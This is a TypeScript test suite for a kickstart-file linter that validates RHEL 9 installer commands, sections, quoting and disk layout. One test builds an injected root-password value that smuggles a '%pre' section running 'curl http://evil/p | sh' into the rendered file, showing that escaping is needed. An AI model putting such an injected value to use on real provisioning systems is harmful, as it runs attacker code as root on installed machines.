/**
 * The structural kickstart linter (docs/artifacts.md §5.4): RHEL 9 commands and their
 * options, sections closed once by %end, no % line inside a script, quoting under the
 * shell-with-comments rule, storage consistency.
 */
import { lintKickstart } from '../../src/artifacts/kslint/index.js';
import { tokenizeLine } from '../../src/artifacts/kslint/tokenize.js';

function lint(text: string): Array<[string, number | undefined, string]> {
  return lintKickstart(text, { artifact: 'ks/a.example.org.ks' }).map((d) => [d.code, d.span?.line, d.message]);
}

function codes(text: string): string[] {
  return lint(text).map(([code, line]) => `${code}@${line}`);
}

const GOOD = `# a.example.org
url --url=http://i/os
text
reboot
lang en_US.UTF-8
keyboard --xlayouts=us
timezone Europe/Zurich --utc
network --device=eth0 --bootproto=static --ip=192.0.2.1 --netmask=255.255.255.0 --hostname=a.example.org --activate --onboot=yes
rootpw --iscrypted $6$salt$hash
bootloader --location=mbr --append="console=ttyS0,115200 quiet"
zerombr
clearpart --all --initlabel --drives=sda
part /boot --fstype=xfs --size=1024 --ondisk=sda
part pv.01 --size=1 --grow --ondisk=sda
volgroup vg_root pv.01
logvol / --vgname=vg_root --name=root --fstype=xfs --size=8192
logvol swap --vgname=vg_root --name=swap --fstype=swap --size=2048

%packages --ignoremissing
@core
-iwl*-firmware
%end

%pre --log=/tmp/pre.log
echo "100%" # not a section marker
%end

%post --nochroot
cp /tmp/pre.log /mnt/sysimage/root/
%end
`;

test('a well-formed RHEL 9 kickstart passes', () => {
  expect(lint(GOOD)).toEqual([]);
});

test('unknown and removed commands are errors, deprecated ones warnings', () => {
  expect(codes('lang en_US.UTF-8\nfrobnicate --now\ninstall\nauth --enableshadow\n')).toEqual(['PF520@2', 'PF520@3', 'PF521@4']);
  expect(lintKickstart('auth --enableshadow\n', { artifact: 'x' })[0]!.severity).toBe('warning');
});

test('options are checked per command, with values where they need one', () => {
  expect(codes('network --device=eth0 --bootproto\n')).toEqual(['PF529@1']);
  expect(codes('network --device eth0 --bootproto dhcp\n')).toEqual([]);
  expect(codes('bootloader --location=mbr --nosuch\n')).toEqual(['PF522@1']);
  expect(codes('reboot --eject=yes\n')).toEqual(['PF529@1']);
  expect(codes('timezone Europe/Zurich --ntpservers=a,b\n')).toEqual(['PF521@1']);
});

test('positional arguments are counted', () => {
  expect(codes('lang\nlang en_US.UTF-8 de_CH.UTF-8\n')).toEqual(['PF529@1', 'PF530@2', 'PF529@2']);
  expect(codes('rootpw --lock\n')).toEqual([]);
  expect(codes('zerombr now\n')).toEqual(['PF529@1']);
});

test('a single-use setting given twice is an error, also across commands of one group', () => {
  expect(codes('text\ncmdline\nreboot\npoweroff\nnetwork --device=a\nnetwork --device=b\n')).toEqual(['PF530@2', 'PF530@4']);
});

test('sections: closed once by %end, no % line inside, no stray %end', () => {
  expect(codes('%post\necho hi\n')).toEqual(['PF523@1']);
  expect(codes('%post\necho hi\n%end\n%end\n')).toEqual(['PF523@4']);
  expect(codes('%post\necho hi\n%pre\necho again\n%end\n')).toEqual(['PF524@3']);
  expect(codes('%post\n  %end trailing\n%end\n')).toEqual(['PF524@2']);
  expect(codes('%bogus\n%end\n')).toEqual(['PF523@1']);
  expect(codes('%post --nosuch\n%end\n')).toEqual(['PF522@1']);
  expect(codes('%include http://i/extra.ks\n')).toEqual([]);
});

test('the injected root password of the injection table is caught structurally', () => {
  // rootpw value "x\n%pre\ncurl http://evil/p | sh\n%end" interpolated raw: valid for ksvalidator,
  // but the linter sees a second %pre section when the file already has one.
  const injected = GOOD.replace('rootpw --iscrypted $6$salt$hash', 'rootpw --iscrypted x\n%pre\ncurl http://evil/p | sh\n%end');
  expect(injected).not.toBe(GOOD);
  expect(codes(injected)).toEqual([]); // structurally valid: only the escapers can stop it
});

test('quoting: unbalanced quotes and a trailing backslash are errors', () => {
  expect(codes('bootloader --append="console=ttyS0\n')).toEqual(['PF525@1']);
  expect(codes("sshkey --username=root 'ssh-ed25519 AAAA\n")).toEqual(['PF525@1']);
  expect(codes('lang en_US.UTF-8 \\\n')).toEqual(['PF525@1']);
  expect(codes('%packages\n"unterminated\n%end\n')).toEqual(['PF525@2']);
});

test('storage: duplicate mount points, undefined volume groups and members', () => {
  expect(codes('part /boot --size=1\npart /boot --size=2\n')).toEqual(['PF526@2']);
  expect(codes('part swap --size=1\npart swap --size=2\n')).toEqual([]);
  expect(codes('logvol / --vgname=vg0 --name=root --size=1\n')).toEqual(['PF527@1']);
  expect(codes('logvol / --name=root --size=1\n')).toEqual(['PF527@1']);
  expect(codes('volgroup vg0 pv.01 pv.02\npart pv.01 --size=1\n')).toEqual(['PF528@1']);
  expect(codes('volgroup vg0 --useexisting\nlogvol / --vgname=vg0 --name=root --useexisting\n')).toEqual([]);
  expect(codes('part raid.01 --size=1\npart raid.02 --size=1\nraid pv.01 --level=1 --device=md0 raid.01 raid.02\nvolgroup vg0 pv.01\n')).toEqual([]);
});

test('diagnostics point at the generated file and line', () => {
  const [d] = lintKickstart('text\nfrobnicate\n', { artifact: 'ks/a.example.org.ks', template: 'templates/kickstart/base.ks.njk' });
  expect(d!.span).toMatchObject({ file: 'ks/a.example.org.ks', line: 2, col: 1 });
  expect(d!.message).toBe('unknown kickstart command frobnicate (rendered from templates/kickstart/base.ks.njk)');
});

describe('tokenizer (shell with comments)', () => {
  test.each([
    ['rootpw --iscrypted abc#def', ['rootpw', '--iscrypted', 'abc']],
    ['a "abc #def"', ['a', 'abc #def']],
    [`a 'a"b c'`, ['a', 'a"b c']],
    ['a "x\\"y\\\\z\\n"', ['a', 'x"y\\z\\n']],
    ["a 'it'\\''s'", ['a', "it's"]],
    ['a b\\ c', ['a', 'b c']],
    ['  # only a comment', []],
  ])('%s', (line, words) => {
    expect(tokenizeLine(line)).toEqual({ ok: true, words });
  });
});
